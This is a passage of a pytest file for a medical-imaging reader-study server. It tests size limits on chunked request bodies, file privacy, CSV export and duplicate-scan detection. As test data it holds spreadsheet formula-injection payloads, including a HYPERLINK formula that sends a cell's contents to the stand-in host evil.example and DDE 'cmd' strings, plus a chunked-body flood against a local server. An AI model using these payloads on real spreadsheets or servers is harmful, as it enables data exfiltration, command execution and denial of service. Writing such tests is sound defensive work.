        want = 0o700 if p.is_dir() else 0o600
        assert mode == want, f"{p.relative_to(root.parent)} is {oct(mode)}, expected {oct(want)}"
        seen.append(str(p.relative_to(root)))
    return seen


@pytest.fixture(scope="module")
def study_server(tmp_path_factory):
    """A study made by ``spine-ldm study create`` under umask 022, one reader, and a running ``study serve``."""
    import httpx

    base = tmp_path_factory.mktemp("study")
    real_csv, inp_glob = _study_sources(base / "src", n_real=2, n_inpainted=2)
    umask = lambda: os.umask(0o022)  # noqa: E731 - what most systems use: the old code's files were 644
    r = subprocess.run([sys.executable, "-m", "spine_ldm", "study", "create", "--inpainted", inp_glob,
                        "--real-manifest", str(real_csv), "--out", str(base / "S")], capture_output=True, text=True,
                       env=_env(), preexec_fn=umask, timeout=300)
    assert r.returncode == 0, r.stderr
    r = subprocess.run([sys.executable, "-m", "spine_ldm", "study", "add-reader", str(base / "S"), "alice"],
                       capture_output=True, text=True, env=_env(), preexec_fn=umask, timeout=120)
    assert r.returncode == 0, r.stderr
    token = r.stdout.strip()
    port = _free_port()
    log = (base / "serve.log").open("w")
    proc = subprocess.Popen([sys.executable, "-m", "spine_ldm", "study", "serve", str(base / "S"), "--port",
                             str(port)], stdout=log, stderr=log, env=_env(), preexec_fn=umask)
    log.close()
    try:
        url = f"http://127.0.0.1:{port}"
        _wait_http(url + "/api/health", proc, base / "serve.log")
        yield {"url": url, "token": token, "root": base / "S", "proc": proc}
    finally:
        _stop(proc)
        assert "Traceback" not in (base / "serve.log").read_text()


def test_item05_chunked_body_over_the_limit_is_refused_while_streaming(study_server):
    """A chunked POST /api/login without a token: 413 after about 64 KB; the old server read it whole."""
    url = study_server["url"]
    host, port = url.split("//")[1].split(":")
    chunk = b"A" * 16384
    sent, response = 0, b""
    with socket.create_connection((host, int(port)), timeout=30) as s:
        s.sendall(b"POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                  b"Transfer-Encoding: chunked\r\n\r\n")
        try:
            while sent < 32 * 2 ** 20:  # the attack sent 300 MB; 32 MB is plenty to tell
                s.sendall(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                sent += len(chunk)
                if select.select([s], [], [], 0.005)[0]:
                    break
        except (BrokenPipeError, ConnectionResetError):
            pass
        s.settimeout(10)
        try:
            while b"\r\n\r\n" not in response:
                part = s.recv(65536)
                if not part:
                    break
                response += part
        except (ConnectionResetError, socket.timeout):
            pass
    assert response.startswith(b"HTTP/1.1 413"), (sent, response[:200])
    assert sent < 8 * 2 ** 20, sent  # refused while streaming, not after reading everything
    import httpx

    r = httpx.post(url + "/api/login", json={"token": study_server["token"]}, timeout=10)
    assert r.status_code == 200  # the server is fine afterwards


def test_item08_study_files_are_private(study_server):
    import httpx

    url, token, root = study_server["url"], study_server["token"], study_server["root"]
    h = {"Authorization": f"Bearer {token}"}
    case = httpx.get(url + "/api/case/0", headers=h, timeout=10).json()
    r = httpx.post(url + "/api/answer", headers=h, timeout=10,
                   json={"case_id": case["case_id"], "values": {"realistic": "yes", "pathology_present": "no"}})
    assert r.status_code == 200, r.text
    seen = _assert_private(root)
    for name in ("study.json", "answers.sqlite", "answers.sqlite-wal", "answers.sqlite-shm", "organizer",
                 "organizer/truth.json", "volumes"):
        assert name in seen, (name, seen)
    assert len([s for s in seen if s.startswith("volumes/")]) == 4


def test_item08_custom_truth_location_is_private(tmp_path):
    from spine_ldm.study.engine import create_study, inpainted_sources, real_sources

    real_csv, inp_glob = _study_sources(tmp_path / "src", n_real=1, n_inpainted=1)
    old = os.umask(0o022)
    try:
        create_study(tmp_path / "S", inpainted_sources(inp_glob), real_sources(real_csv),
                     truth_out=tmp_path / "keys" / "truth.json")
    finally:
        os.umask(old)
    _assert_private(tmp_path / "S")
    _assert_private(tmp_path / "keys")


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "\rCR", "fine = text", "3 - 2"]


def test_item09_exported_comments_cannot_become_spreadsheet_formulas(tmp_path):
    from spine_ldm.study import cli as study_cli
    from spine_ldm.study.engine import make_demo_study

    st = make_demo_study(tmp_path / "S", n_inpainted_per_method=1, n_real_pathological=1, n_real_healthy=1,
                         fsu_shape=(32, 16, 8), phantom_spacing=(2.5, 2.5, 4.3))
    evil, _ = st.add_reader("=cmd|' /C calc'!A0")
    s = st.session(_)
    for k, text in enumerate(FORMULAS):
        s.answer(s.order[k % len(s.order)], {"realistic": "yes", "pathology_present": "no", "comment": text})
    assert study_cli.main(["export", str(st.root), "--out", str(tmp_path / "h.csv"), "--history"]) == 0
    assert study_cli.main(["export", str(st.root), "--out", str(tmp_path / "h.jsonl"), "--history"]) == 0
    with (tmp_path / "h.csv").open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    comments = [r["comment"] for r in rows]
    assert comments == [f"'{t}" if t[0] in "=+-@\t\r" else t for t in FORMULAS]
    assert all(r["reader"] == "'=cmd|' /C calc'!A0" for r in rows)
    for r in rows:  # no cell of the file starts like a formula
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r
    jsonl = [json.loads(line) for line in (tmp_path / "h.jsonl").read_text().splitlines()]
    assert [r["comment"] for r in jsonl] == FORMULAS  # JSON keeps the text as typed


def _write_scan(path: Path, img: sitk.Image) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    sitk.WriteImage(img, str(path), True)
    return path


def _inpainted_from(scan: sitk.Image, lm, out: Path, input_name: str) -> Path:
    """A stand-in for an inpainting output of ``scan``: voxels changed where the Gaussian weight (sigma 16 mm) is
    >= 1e-3, everything else bit-identical, the input's grid, provenance naming the input file."""
    from spine_ldm.weighting import gaussian_weight

    a = sitk.GetArrayFromImage(scan)
    w = gaussian_weight(scan, lm, 16.0)
    changed = (a + np.rint(300 * w)).astype(a.dtype)
    img = sitk.GetImageFromArray(np.where(w >= 1e-3, changed, a))
    img.CopyInformation(scan)
    for k, v in {"method": "weighted", "level": "L4-L5", "condition": "dh_small", "sigma_mm": "16.0",
                 "landmark_lps": json.dumps(list(lm)), "input": input_name}.items():
        img.SetMetaData(f"spine_ldm_{k}", v)
    return _write_scan(out, img)


def test_item10_same_scan_warning_compares_content_not_file_names(tmp_path):
    from spine_ldm.study.engine import inpainted_sources, real_sources, same_scan_warnings

    h5 = _scan_volume(5, size=(30, 160, 160))
    h1 = _scan_volume(5, size=(30, 160, 160))  # same grid (same seed -> same geometry) ...
    a1 = sitk.GetArrayFromImage(h1)
    h1 = sitk.GetImageFromArray(np.ascontiguousarray(a1[:, ::-1]))  # ... but a different scan
    h1.CopyInformation(h5)
    _write_scan(tmp_path / "h5" / "t2.nrrd", h5)
    _write_scan(tmp_path / "h1" / "t2.nrrd", h1)
    _write_scan(tmp_path / "copy_of_h5.nrrd", h5)  # a renamed copy of h5
    lm = h5.TransformContinuousIndexToPhysicalPoint([(s - 1) / 2 for s in h5.GetSize()])
    _inpainted_from(h5, lm, tmp_path / "out" / "x.nrrd", "t2.nrrd")
    inp = inpainted_sources(str(tmp_path / "out" / "x.nrrd"))
    lm_txt = " ".join(f"{v:.3f}" for v in lm)

    def real(*paths):
        (tmp_path / "real.csv").write_text("path,level,condition,landmark_lps\n" +
                                           "".join(f"{p},L4-L5,none,{lm_txt}\n" for p in paths))
        return real_sources(tmp_path / "real.csv")

    # different scan with the same file name: no warning (the old code warned "same scan")
    assert same_scan_warnings(inp + real("h1/t2.nrrd")) == []
    # a renamed copy of the input scan: warned (the old code missed it)
    (w,) = same_scan_warnings(inp + real("copy_of_h5.nrrd"))
    assert "x.nrrd" in w and "copy_of_h5.nrrd" in w
    # the input itself under its own name: still warned; two real copies of one scan: warned too
    assert len(same_scan_warnings(inp + real("h5/t2.nrrd"))) == 1
    (w,) = same_scan_warnings(real("h5/t2.nrrd", "copy_of_h5.nrrd"))
    assert "same scan" in w and "copy_of_h5.nrrd" in w
